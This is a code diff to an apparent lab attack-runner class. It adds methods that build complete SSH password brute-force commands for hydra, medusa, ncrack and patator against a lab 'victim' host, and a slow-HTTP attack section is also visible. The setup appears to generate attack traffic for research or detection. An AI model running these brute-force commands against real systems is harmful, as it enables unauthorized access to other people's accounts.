@@ -110,7 +110,8 @@ class Runner:
         return {"start_epoch": start, "end_epoch": time.time(), "exit_code": rc, "options": shlex.join(argv)}
 
     # ---- ssh brute force --------------------------------------------------------------------
-    def run_hydra(self, var, log):
+    def _credentials(self, var):
+        """Writes the variation's user and password lists; returns (userfile, wordlist, words)."""
         rng = random.Random(var.get("seed", 0))
         words = wordlist(rng, int(var.get("words", 40)))
         if var.get("find_password"):
@@ -122,11 +123,34 @@ class Runner:
         userfile = f"{self.logdir}/{var['id']}-users.txt"
         with open(userfile, "w") as f:
             f.write("\n".join(users) + "\n")
-        # -I: ignore a restore file from an earlier run; -o: found credentials for the log
-        argv = ["hydra", "-I", "-L", userfile, "-P", wl, *var["args"], f"ssh://{self.lab.victim.ip}"]
-        res = self._timed(argv, var, log)
+        return userfile, wl, words
+
+    def _guess(self, var, log, argv_for):
+        """Runs one SSH password guesser; `port` (default 22) is where the victim's sshd listens."""
+        userfile, wl, words = self._credentials(var)
+        res = self._timed(argv_for(userfile, wl, str(var.get("port", 22)), self.lab.victim.ip), var, log)
         res["words"] = len(words)
+        res["port"] = int(var.get("port", 22))
         return res
+
+    def run_hydra(self, var, log):
+        # -I: ignore a restore file from an earlier run; -o: found credentials for the log
+        return self._guess(var, log, lambda u, w, port, ip: [
+            "hydra", "-I", "-L", u, "-P", w, *var["args"], f"ssh://{ip}:{port}"])
+
+    def run_medusa(self, var, log):
+        return self._guess(var, log, lambda u, w, port, ip: [
+            "medusa", "-M", "ssh", "-h", ip, "-n", port, "-U", u, "-P", w, *var["args"]])
+
+    def run_ncrack(self, var, log):
+        return self._guess(var, log, lambda u, w, port, ip: [
+            "ncrack", "-U", u, "-P", w, *var["args"], f"ssh://{ip}:{port}"])
+
+    def run_patator(self, var, log):
+        # patator's modules take files as FILE0/FILE1 keywords; it prints one line per attempt
+        return self._guess(var, log, lambda u, w, port, ip: [
+            "patator", "ssh_login", f"host={ip}", f"port={port}", "user=FILE0", "password=FILE1",
+            f"0={u}", f"1={w}", *var["args"], "-x", "ignore:mesg=Authentication failed."])
 
     # ---- slow HTTP ----------------------------------------------------------------------------
     def run_slowhttptest(self, var, log):
